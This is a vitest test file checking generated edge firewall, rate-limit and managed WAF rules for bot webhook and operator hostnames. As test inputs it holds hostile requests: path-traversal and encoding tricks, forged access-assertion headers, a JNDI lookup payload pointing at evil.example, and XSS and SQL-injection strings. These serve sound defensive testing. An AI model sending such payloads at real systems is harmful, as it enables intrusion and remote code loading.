import { beforeEach, describe, expect, it } from "vitest";
import type { EdgeFragment } from "../../components/edgeFragment";
import { botsOf, firewallRules, managedRules, rateLimitRules } from "../../components/zoneRules";
import type { HeaderList } from "../../sandbox/edge/request";
import { type Asked, refusal, zoneWith } from "./zoneEdgeWaf";

const json: HeaderList = [["content-type", "application/json; charset=utf-8"]];
const form: HeaderList = [["content-type", "application/x-www-form-urlencoded"]];

/** Without one the zone's check of browsers refuses a request; services do without. */
const browser: HeaderList[number] = ["user-agent", "Mozilla/5.0 (X11; Linux x86_64)"];

/** More agents than one rule holds, so that those of interest are apart from each other. */
const fragments: EdgeFragment[] = [
  {
    agent: "atlas",
    zone: "example.com",
    operator: "atlas-ana.example.com",
    bot: {
      hostname: "atlas-bot.example.com",
      routes: [
        { path: "/slack/events", methods: ["POST"], contentTypes: ["application/json", form[0]![1]] },
        { path: "/hooks/github", methods: ["POST"], contentTypes: ["application/json"] },
      ],
    },
  },
  {
    agent: "zulu",
    zone: "example.com",
    operator: "zulu-ana.example.com",
    bot: {
      hostname: "zulu-bot.example.com",
      routes: [{ path: "/verify", methods: ["GET", "POST"], contentTypes: [] }],
    },
  },
  { agent: "shy", zone: "example.com", operator: "shy-ana.example.com" },
  ...Array.from({ length: 200 }, (_, i): EdgeFragment => {
    const routes = [{ path: "/telegram-webhook", methods: ["POST"], contentTypes: ["application/json"] }];
    const bot = { hostname: `m${i}-bot.example.com`, routes };
    return { agent: `m${i}`, zone: "example.com", operator: `m${i}-ana.example.com`, bot };
  }),
];

describe("what the firewall lets through to bot hostnames", () => {
  const rules = firewallRules(botsOf(fragments), "free");
  const zone = zoneWith("free", { firewall: rules });
  const post = (host: string, target: string, headers = json): Asked => ({ host, target, method: "POST", headers });
  const atlas = "atlas-bot.example.com";

  it("is spread over several rules", () => expect(rules.length).toBeGreaterThan(1));

  it.each<[string, Asked]>([
    ["an event", post(atlas, "/slack/events")],
    ["an event without parameters", post(atlas, "/slack/events", [["content-type", "application/json"]])],
    ["a command as a form", post(atlas, "/slack/events", form)],
    ["a hook", post(atlas, "/hooks/github")],
    ["a hook with a query", post(atlas, "/hooks/github?a=/admin")],
    ["a media type in capitals", post(atlas, "/hooks/github", [["content-type", "Application/JSON"]])],
    ["a host in capitals", post("ATLAS-bot.example.com", "/hooks/github")],
    ["a webhook of another agent", post("m199-bot.example.com", "/telegram-webhook")],
    ["a verification", { host: "zulu-bot.example.com", target: "/verify?challenge=1" }],
    [
      "people",
      { host: "atlas-ana.example.com", target: "/anything", headers: [browser, ["cf-access-jwt-assertion", "x"]] },
    ],
    [
      "people's WebSockets",
      { host: "shy-ana.example.com", target: "/ws", headers: [browser, ["upgrade", "websocket"]] },
    ],
    ["what else is in the zone", { host: "www.example.com", headers: [browser] }],
  ])("is %s", async (_title, asked) => expect(await refusal(zone, asked)).toBeUndefined());

  it.each<[string, Asked]>([
    ["another path", post(atlas, "/admin")],
    ["no path", post(atlas, "/")],
    ["a path of another agent", post(atlas, "/telegram-webhook")],
    ["a longer path", post(atlas, "/hooks/github/x")],
    ["a slash at the end", post(atlas, "/hooks/github/")],
    ["a doubled slash", post(atlas, "//hooks/github")],
    ["an encoded slash", post(atlas, "/hooks%2fgithub")],
    ["an encoded letter", post(atlas, "/hooks/%67ithub")],
    ["a way round", post(atlas, "/x/../hooks/github")],
    ["an encoded way round", post(atlas, "/hooks/github/..%2f..%2fadmin")],
    ["a path in capitals", post(atlas, "/Hooks/github")],
    ["a backslash", post(atlas, "/hooks\\github")],
    ["a parameter of the path", post(atlas, "/hooks/github;x=1")],
    ["a very long path", post(atlas, `/hooks/github${"/x".repeat(4000)}`)],
    ["another method", { ...post(atlas, "/hooks/github"), method: "PUT" }],
    ["a method in lower case", { ...post(atlas, "/hooks/github"), method: "post" }],
    ["reading", { host: atlas, target: "/hooks/github" }],
    ["asking for leave", { host: atlas, target: "/hooks/github", method: "OPTIONS" }],
    ["no media type", post(atlas, "/hooks/github", [])],
    ["another media type", post(atlas, "/hooks/github", [["content-type", "text/plain"]])],
    ["a media type that begins like one", post(atlas, "/hooks/github", [["content-type", "application/jsonx"]])],
    ["two media types in one", post(atlas, "/hooks/github", [["content-type", "application/json, text/html"]])],
    ["one media type behind another", post(atlas, "/hooks/github", [["content-type", "text/plain"], ...json])],
    ["a form where none is declared", post(atlas, "/hooks/github", form)],
    ["a WebSocket", { host: atlas, target: "/hooks/github", headers: [["upgrade", "websocket"], ...json] }],
    [
      "a WebSocket where reading is declared",
      { host: "zulu-bot.example.com", target: "/verify", headers: [["upgrade", "websocket"]] },
    ],
    ["a forged assertion", post(atlas, "/hooks/github", [...json, ["cf-access-jwt-assertion", "e30.e30."]])],
    [
      "a forged address",
      post(atlas, "/hooks/github", [...json, ["cf-access-authenticated-user-email", "ana@example.com"]]),
    ],
    [
      "an address in capitals",
      post(atlas, "/hooks/github", [...json, ["CF-Access-Authenticated-User-Email", "a@b.c"]]),
    ],
    [
      "an address with underscores",
      post(atlas, "/hooks/github", [...json, ["cf_access_authenticated_user_email", "a@b.c"]]),
    ],
    [
      "a service token",
      post(atlas, "/hooks/github", [...json, ["cf-access-client-id", "x.access"], ["cf-access-client-secret", "y"]]),
    ],
    ["an empty assertion", post(atlas, "/hooks/github", [...json, ["cf-access-jwt-assertion", ""]])],
    ["a host in capitals at another path", post("ATLAS-BOT.example.com", "/admin")],
    ["an agent of a later rule", post("m199-bot.example.com", "/slack/events")],
    ["an agent of the last rule", post("zulu-bot.example.com", "/slack/events")],
  ])("is not %s", async (_title, asked) => expect(await refusal(zone, asked)).toBe(403));
});

describe("how often one address may call", () => {
  const limit = { requests: 3 };
  const bots = botsOf(fragments);
  const event: Asked = { host: "atlas-bot.example.com", target: "/slack/events", method: "POST", headers: json };
  let zone: ReturnType<typeof zoneWith>;
  const burst = async (asked: Asked) => {
    const statuses = [];
    for (let i = 0; i < 6; i++) statuses.push(await refusal(zone, asked));
    return statuses.filter((status) => status !== undefined);
  };

  describe.each(["free", "pro"] as const)("on the plan %s", (plan) => {
    beforeEach(() => {
      zone = zoneWith(plan, {
        firewall: firewallRules(bots.slice(0, 1), plan),
        rateLimit: rateLimitRules(bots, plan, limit)!,
      });
    });

    it("is limited by address, and for a while", async () => {
      expect((await burst(event)).every((status) => status === 429)).toBe(true);
      expect(await burst(event)).toHaveLength(6);
      expect(await refusal(zone, { ...event, address: "203.0.113.8" })).toBeUndefined();
      zone.time.now += 21_000;
      expect(await refusal(zone, event)).toBeUndefined();
    });

    it("is not limited for people", async () => {
      expect(await burst({ host: "atlas-ana.example.com", target: "/chat", headers: [browser] })).toEqual([]);
    });

    it("is not used up by what is refused anyway", async () => {
      expect(await burst({ ...event, method: "PUT" })).toEqual(Array(6).fill(403));
      expect(await refusal(zone, event)).toBeUndefined();
    });
  });
});

describe.each(["free", "business"] as const)("Cloudflare's own rules on the plan %s", (plan) => {
  const zone = zoneWith(plan, { managed: managedRules(fragments, plan) });
  const attack = (host: string): Asked => ({ host, target: "/?x=${jndi:ldap://evil.example/a}", headers: [browser] });
  const shellText = (host: string): Asked => ({
    host,
    target: "/?q=%3Cscript%3Ealert(1)%3C/script%3E' or 1=1 --",
    headers: [browser],
  });

  it("are for what else is in the zone, and for bot hostnames", async () => {
    expect(await refusal(zone, attack("www.example.com"))).toBe(403);
    expect(await refusal(zone, attack("m199-bot.example.com"))).toBe(403);
  });

  it("spare people, all of them", async () => {
    for (const { operator } of fragments) {
      expect(await refusal(zone, attack(operator))).toBeUndefined();
      expect(await refusal(zone, shellText(operator))).toBeUndefined();
    }
  });
});
